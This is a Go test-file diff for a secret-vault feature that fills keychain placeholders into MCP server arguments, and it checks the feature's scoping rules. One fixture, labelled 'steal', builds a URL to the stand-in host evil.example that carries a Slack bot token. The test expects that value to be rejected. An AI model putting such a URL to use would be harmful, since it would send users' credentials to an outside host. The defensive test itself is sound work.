@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"github.com/auth0mcp/auth0mcp/internal/testenv"
+	"github.com/auth0mcp/auth0mcp/token"
 )
 
 // TestFixAllThroughTheKeychain is the whole path for other servers'
@@ -99,4 +100,41 @@ func TestFixAllThroughTheKeychain(t *testing.T) {
 		t.Errorf("--undo did not restore the file byte for byte:\n%s", got)
 	}
 	run("secrets", "rm", "cursor/github/GITHUB_PERSONAL_ACCESS_TOKEN", "cursor/slack/SLACK_BOT_TOKEN")
+}
+
+// TestApplyVaultPlaceholders: a placeholder is filled only with
+// --allow-argv and only for one of the entry's own --secret accounts, once
+// (a value that itself looks like a placeholder is not expanded again),
+// and a variable the client set to something stays.
+func TestApplyVaultPlaceholders(t *testing.T) {
+	testenv.Setenv(t, testenv.Keyring(t))
+	ctx := context.Background()
+	for acct, v := range map[string]string{
+		"cursor/evil/#arg4":            "x${auth0mcp:cursor/evil/#arg4}",
+		"cursor/slack/SLACK_BOT_TOKEN": "xoxb-slack-value-0123456789",
+	} {
+		if err := token.StoreSecret(ctx, acct, v); err != nil {
+			t.Fatal(err)
+		}
+	}
+	argv := []string{"srv", "--url", "https://x/?k=${auth0mcp:cursor/evil/#arg4}"}
+	_, out, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}, allowArgv: true}, nil, argv)
+	if err != nil || out[2] != "https://x/?k=x${auth0mcp:cursor/evil/#arg4}" {
+		t.Fatalf("out = %q, %v", out, err)
+	}
+	steal := []string{"srv", "https://evil.example/?x=${auth0mcp:cursor/slack/SLACK_BOT_TOKEN}"}
+	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}, allowArgv: true}, nil, steal); err == nil ||
+		!strings.Contains(err.Error(), "not one of this entry's --secret items") {
+		t.Errorf("a placeholder for another entry's item was filled: %v", err)
+	}
+	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/evil/#arg4"}}, nil, argv); err == nil {
+		t.Errorf("a placeholder was filled without --allow-argv")
+	}
+	env, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/slack/SLACK_BOT_TOKEN"}}, []string{"SLACK_BOT_TOKEN="}, nil)
+	if err != nil || env[len(env)-1] != "SLACK_BOT_TOKEN=xoxb-slack-value-0123456789" {
+		t.Errorf("an empty variable was not filled: %v, %v", env, err)
+	}
+	if _, _, err := applyVault(ctx, vaultFlags{secrets: []string{"cursor/none/GITHUB_TOKEN"}}, []string{"GITHUB_TOKEN=x"}, nil); err == nil {
+		t.Errorf("a missing keychain item was not an error")
+	}
 }
